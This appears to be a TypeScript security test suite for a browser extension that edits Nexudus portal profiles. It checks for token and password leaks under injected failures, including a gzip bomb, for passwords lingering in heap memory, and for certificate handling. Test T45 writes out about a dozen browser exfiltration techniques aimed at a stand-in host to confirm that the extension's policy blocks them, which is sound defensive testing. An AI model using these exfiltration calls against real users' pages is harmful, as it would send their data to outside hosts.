import { beforeEach, describe, expect } from 'vitest';
import type { Json, Surface, Tab } from '../browsers/driver';
import { staysTrue, until } from '../browsers/waiting';
import { portalPage, says } from '../e2e/stage';
import * as recipes from '../portal/faults/recipes';
import type { Fault } from '../portal/faults/types';
import { ask } from './ask';
import { watchHeaps } from './heap';
import { isSoak, threat } from './report';
import { type Hit, plainSentinel, type Sentinel, scanText } from './sentinels';
import { browserName, secretsOf, useThreatStage } from './stage';

/** Every way in which a request of ours can fail, for the write and for the reads. */
const failures: readonly [name: string, fault: Fault][] = [
  ...[400, 401, 403, 404, 405, 408, 409, 413, 429, 500, 502, 503, 504, 407, 511].map(
    (status): [string, Fault] => [
      `status ${status}`,
      { answer: recipes.status(status, { 'retry-after': '1' }, 'no') },
    ],
  ),
  ['html', { answer: recipes.htmlPage() }],
  ['redirect', { answer: recipes.redirectTo('https://kodama.spaces.nexudus.com/elsewhere') }],
  ['truncated', { answer: recipes.truncatedJson }],
  ['empty', { answer: { status: 200, text: '' } }],
  ['wrong types', { answer: { json: { WasSuccessful: 'maybe', Id: 'x' } } }],
  ['array', { answer: { json: [1, 2, 3] } }],
  ['reset', { deliver: { kind: 'reset' } }],
  ['cut', { deliver: { kind: 'cut', after: 10 } }],
  ['bomb', { answer: recipes.gzipBomb(3) }],
];

const messages = [
  ['save', { method: 'PATCH' }],
  ['changePassword', { method: 'PATCH' }],
  ['refresh', { method: 'GET', path: '/en/profile' }],
] as const;

describe(`what could leak, in ${browserName}`, () => {
  // Without keep-alive: a browser sends a request again whose used connection was reset.
  const stage = useThreatStage({
    switches: { echoValues: true, keepAlive: false },
    begin: () => stage.signIn('ada'),
  });
  let page: Tab;
  beforeEach(async () => {
    page = await stage.browser.newTab(`${stage.browser.origin}/editor.html`);
  });
  const owner = () => ({
    space: 'acme',
    user: stage.portal.member('ada').id,
    profile: stage.portal.currentProfile('ada', 'acme'),
  });
  /** Everything that is stored and everything that was said, but the token's own item. */
  const everywhere = async () => {
    const stored = await stage.browser.background.evaluate(async api => {
      const { 'token/acme': _, ...rest } = await api.storage.session.get(null);
      return JSON.stringify([rest, await api.storage.local.get(null)]);
    });
    return [stored, ...(await stage.browser.console())].join('\n');
  };

  threat(
    'T39',
    'no failure says a token or a password',
    async () => {
      const password = plainSentinel('a typed password');
      const replies: Json[] = [];
      let tried = 0;
      for (const [turn, [name, fault]] of failures.entries()) {
        for (const [place, [message, match]] of messages.entries()) {
          // In the quick form each failure meets one of the three.
          if (!isSoak && turn % 3 !== place) continue;
          const standing = stage.portal.faults.add({
            ...fault,
            match: { ...match, where: ({ origin }) => !origin?.startsWith('https:') },
            times: Number.POSITIVE_INFINITY,
          });
          // A read that is tried again waits its time; one round of those is enough.
          if (message === 'refresh' && /status (408|429|5)/.test(name) && name !== 'status 503') {
            standing.remove();
            continue;
          }
          const requests: Record<(typeof messages)[number][0], Json> = {
            save: {
              seat: 'acme',
              owner: owner(),
              saveId: `leak ${name}`,
              edits: {
                NickName: {
                  base: stage.portal.record(owner().profile).NickName as string,
                  value: `Nick ${tried}`,
                },
              },
            },
            changePassword: {
              seat: 'acme',
              owner: owner(),
              OldPassword: password.value,
              NewPassword: password.value,
              RepeatNewPassword: password.value,
            },
            refresh: { seat: 'acme' },
          };
          replies.push(await ask(page, message, requests[message]));
          standing.remove();
          tried += 1;
          if (name === 'status 401') {
            // That ended the session here; the portal shows its token again.
            const tab = await stage.browser.newTab(portalPage('acme'));
            await until('the token', () =>
              stage.browser.background.evaluate(
                async api => 'token/acme' in (await api.storage.session.get('token/acme')),
              ),
            );
            await tab.close();
          }
        }
      }
      // A refusal that repeats what was typed.
      replies.push(
        await ask(page, 'changePassword', {
          seat: 'acme',
          owner: owner(),
          OldPassword: password.value,
          NewPassword: password.value,
          RepeatNewPassword: password.value,
        }),
      );
      // The portal is well again, and so is the editor that opens next.
      expect(await ask(page, 'refresh', { seat: 'acme' })).toMatchObject({ ok: true });
      const sought: Sentinel[] = [...secretsOf(stage), password];
      expect(replies.filter(reply => reply === null)).toEqual([]);
      expect(scanText(sought, 'replies', JSON.stringify(replies))).toEqual([]);
      expect(scanText(sought, 'storage and console', await everywhere())).toEqual([]);
      const said = (await stage.browser.console()).filter(line => /unhandled|uncaught/i.test(line));
      expect(said).toEqual([]);
      // The ear works: what is said on a console is heard.
      await page.evaluate(value => console.log(`control ${value}`), password.value);
      await until(
        'the control to be heard',
        async () => scanText([password], 'console', (await stage.browser.console()).join('\n')).length === 1,
      );
      return [
        `${tried + 1} failures of save, password and read`,
        '0 sentinels in replies, storage and console; 0 unhandled',
      ];
    },
    240_000,
  );

  threat('T40', 'a password leaves the memory', async () => {
    const { password } = stage.portal.member('ada');
    const [wanted, control] = [plainSentinel('new password'), plainSentinel('control')];
    const popup = await stage.openEditor('password');
    await popup.fill('#field-OldPassword', password);
    await popup.fill('#field-NewPassword', wanted.value);
    await popup.fill('#field-RepeatNewPassword', wanted.value);
    await popup.click('[data-action=change-password]');
    const said = await popup.waitFor(
      'the answer',
      () => document.querySelector('[data-part=password-status]')?.textContent,
    );
    expect(said).toContain('Password changed');
    const heaps = await watchHeaps(stage.browser);
    await popup.evaluate(value => {
      (window as unknown as { control: string }).control = value;
    }, control.value);
    const sought = [wanted, { name: 'old password', value: password }];
    /** A heap once its garbage was collected without a password left, five times at most; what was left after the last of them. */
    const collected = async (part: string) => {
      let [heap, left] = ['', [] as Hit[]];
      for (let times = 0; times === 0 || (times < 5 && left.length > 0); times += 1) {
        heap = await heaps.snapshot(part);
        left = scanText(sought, part, heap);
      }
      return { heap, left };
    };
    const [inPopup, inWorker] = [await collected('/popup.html'), await collected('/background.js')];
    await heaps.close();
    expect([...inPopup.left, ...inWorker.left]).toEqual([]);
    expect(scanText([control], 'popup', inPopup.heap)).toHaveLength(1);
    await popup.close();
    const megabytes = Math.round((inPopup.heap.length + inWorker.heap.length) / 1_048_576);
    return [`heaps of popup and worker, ${megabytes} MB, after a change`, '0 passwords (1 control found)'];
  });

  threat('T44', 'a bad certificate ends it', async () => {
    const popup = await stage.openEditor('personal');
    const mark = await stage.portal.log.atRest();
    stage.portal.breakCertificate('acme.spaces.nexudus.com');
    await popup.fill('#field-NickName', 'Not over this');
    await popup.click('[data-action=save]');
    await popup.waitFor('the sentence', () => document.querySelector('[data-part=status] [data-tone=bad]'));
    const text = await popup.text('[data-part=status]');
    expect(text).toMatch(/nothing was sent|secure|reach/i);
    expect(stage.portal.log.since(mark).filter(({ host }) => host === 'acme.spaces.nexudus.com')).toEqual([]);
    stage.portal.mendCertificate('acme.spaces.nexudus.com');
    await popup.click('[data-action=save]');
    await says(popup, 'Saved');
    await popup.close();
    return ['1 stranger’s certificate', '0 requests, 0 fallbacks, and a sentence; then it saves'];
  });

  threat('T45', 'nothing of ours can call another host', async () => {
    const ways = async (host: string) => {
      const url = (way: string) => `https://${host}/exfil/${way}`;
      const quietly = (act: () => unknown) =>
        Promise.resolve()
          .then(act)
          .catch(() => {});
      const { document } = globalThis as { document?: Document };
      const scripts = (globalThis as { importScripts?: (url: string) => void }).importScripts;
      const attempts: Record<string, () => unknown> = {
        fetch: () => fetch(url('fetch'), { mode: 'no-cors' }),
        post: () => fetch(url('post'), { method: 'POST', mode: 'no-cors', body: 'x' }),
        websocket: () => new WebSocket(url('websocket').replace('https', 'wss')),
        events: () => new EventSource(url('events')),
        beacon: () => navigator.sendBeacon?.(url('beacon'), 'x'),
        import: () => import(/* @vite-ignore */ url('import')),
      };
      if (scripts) attempts.scripts = () => scripts(url('scripts'));
      if (document) {
        Object.assign(attempts, {
          image: () => Object.assign(new Image(), { src: url('image') }),
          script: () =>
            document.head.append(Object.assign(document.createElement('script'), { src: url('script') })),
          style: () =>
            document.head.append(
              Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url('style') }),
            ),
          frame: () =>
            document.body?.append(Object.assign(document.createElement('iframe'), { src: url('frame') })),
          prefetch: () =>
            document.head.append(
              Object.assign(document.createElement('link'), { rel: 'prefetch', href: url('prefetch') }),
            ),
          worker: () => new Worker(url('worker')),
        });
      }
      await Promise.all(Object.values(attempts).map(quietly));
      return Object.keys(attempts).length;
    };
    /** Comes last: it may lead away from the document. */
    const submit = (host: string) => {
      const action = `https://${host}/exfil/form`;
      const form = Object.assign(document.createElement('form'), { action, method: 'post', target: '_self' });
      document.body.append(form);
      try {
        form.submit();
      } catch {
        // Firefox says so where the policy forbids it.
      }
      return 1;
    };
    const host = 'exfil.nexudus.site';
    const arrived = () => stage.portal.log.to(host).filter(({ path }) => path.startsWith('/exfil/'));
    const popup: Surface = await stage.browser.openPopup();
    const arrivesNot = () => staysTrue('nothing arrives', () => arrived().length === 0, 700);
    let tried = await popup.evaluate(ways, host);
    await arrivesNot();
    tried += await popup.evaluate(submit, host);
    await arrivesNot();
    await popup.close();
    const composed = Object.assign(() => 0, { toString: () => `(_, host) => (${ways})(host)` });
    tried += await stage.browser.background.evaluate(
      composed as unknown as (api: unknown, host: string) => number,
      host,
    );
    await arrivesNot();
    // The same from a page without our policy arrives.
    stage.portal.pages.set(
      'acme.nexudus.site',
      '/free',
      '<!doctype html><head></head><body><p>page</p></body>',
    );
    const free = await stage.browser.newTab('https://acme.nexudus.site/free');
    await free.evaluate(ways, host);
    await until('some of them to arrive', () => arrived().length > 4);
    await free.evaluate(submit, host).catch(() => 0);
    await until('the form to arrive', () => arrived().some(({ path }) => path === '/exfil/form'));
    await free.close();
    return [
      `${tried} ways out of popup and background`,
      `0 arrived (${arrived().length} from a page without our policy)`,
    ];
  });
});
